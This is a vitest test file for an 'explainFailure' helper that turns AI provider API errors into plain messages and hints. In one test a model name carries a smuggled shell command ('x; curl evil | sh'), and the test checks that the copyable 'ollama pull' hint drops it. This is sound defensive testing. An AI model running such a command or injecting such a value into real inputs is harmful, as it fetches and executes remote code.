import { readdirSync } from "node:fs";
import { describe, expect, it } from "vitest";
import { explainFailure } from "../../src/failures/index.js";
import { cases, DIALECTS, FOLDER, inputOf } from "../support/failure-cases.js";

describe("explainFailure", () => {
  it("has a fixture file for every dialect and no others", () => {
    const files = DIALECTS.flatMap((name) => [`${name}.json`, `${name}.words.txt`]);
    files.push("network.words.txt");
    expect(readdirSync(FOLDER).sort()).toEqual(files.sort());
    expect(cases.length).toBeGreaterThan(170);
    expect(new Set(cases.map((one) => one.title)).size).toBe(cases.length);
  });

  it.each(cases)("$title", (one) => {
    const failure = explainFailure(inputOf(one));
    expect(failure).toMatchObject(one.expect);
    // What is not known from documentation or source must say so.
    const soft = one.confidence === "K" || one.confidence === "I";
    expect(failure.unconfirmed, "unconfirmed").toBe(soft);
  });

  it.each(cases)("$title: reads as plain words with one remedy", (one) => {
    const { message, hint, retryable, retryAfterMs } = explainFailure(inputOf(one));
    for (const text of [message, hint ?? "Fine."]) {
      expect(text).not.toMatch(/\{(?!env:)|undefined|null|\s\s/);
      expect(text).toMatch(/^\S.*[.;)]$/);
    }
    expect(message.length).toBeLessThan(160);
    expect(message).toMatch(/^["A-Za-z{]/);
    if (!retryable) expect(retryAfterMs).toBeNull();
  });

  it("puts provider, model, region and credential into the words", () => {
    const failure = explainFailure({
      dialect: "aws",
      step: "chat",
      status: 400,
      headers: { "x-amzn-errortype": "ValidationException" },
      body: { message: "The provided model identifier is invalid." },
      text: "",
      context: { provider: "amazon-bedrock", model: "eu.nope", region: "us-east-1" },
    });
    expect(failure.message).toContain('"eu.nope"');
    expect(failure.message).toContain("us-east-1");
  });

  it("works without any context", () => {
    const failure = explainFailure({
      dialect: "openai",
      step: "list",
      status: 401,
      headers: {},
      body: null,
      text: "",
    });
    expect(failure.message).toBe(
      "The provider does not accept the credential: the key is wrong or was revoked.",
    );
    expect(failure.detail).toBeNull();
  });

  it("lets no control character from a config through", () => {
    const failure = explainFailure({
      dialect: "openai",
      step: "chat",
      status: 404,
      headers: {},
      body: { error: { message: "The model does not exist", code: "model_not_found" } },
      text: "",
      context: { model: "gpt\u001b[31m\u202e-5\nx" },
    });
    expect(failure.message).toContain('"gpt[31m-5x"');
  });

  it("puts only plain names into a command to copy", () => {
    const hintFor = (model: string) =>
      explainFailure({
        dialect: "ollama",
        step: "model",
        status: 404,
        headers: {},
        body: { error: "model not found" },
        text: "",
        context: { model },
      }).hint;
    expect(hintFor("hf.co/org/llama3.2:1b-q4_K_M")).toContain(
      "`ollama pull hf.co/org/llama3.2:1b-q4_K_M`",
    );
    expect(hintFor("x; curl evil | sh")).toContain("`ollama pull MODEL`");
  });

  it("never blames the key for a 5xx, an unknown status or a strange body", () => {
    for (const dialect of DIALECTS) {
      for (const status of [500, 502, 503, 504, 520, 529, 599, 418, 451, 200]) {
        for (const text of ["", "oops", '{"a":1}', "<html></html>", '["x"]', "42"]) {
          const body = /^[{["\d]/.test(text) ? JSON.parse(text) : null;
          const failure = explainFailure({
            dialect,
            step: "list",
            status,
            headers: {},
            body,
            text,
          });
          expect(["invalid_key", "expired", "missing_credential"]).not.toContain(failure.reason);
          if (status >= 500) expect(failure.state).toBe("unproven");
        }
      }
    }
  });

  it("survives bodies of any shape", () => {
    const bodies = [
      null,
      0,
      "",
      [],
      [null],
      { error: null },
      { error: [] },
      { error: { details: 1 } },
    ];
    for (const body of [
      ...bodies,
      { errors: "x", detail: [1], base_resp: 3 },
      { error: { code: {} } },
    ]) {
      for (const dialect of DIALECTS) {
        const input = { dialect, step: "chat", status: 400, headers: {}, body, text: "" } as const;
        expect(explainFailure(input).message).not.toBe("");
      }
    }
  });
});
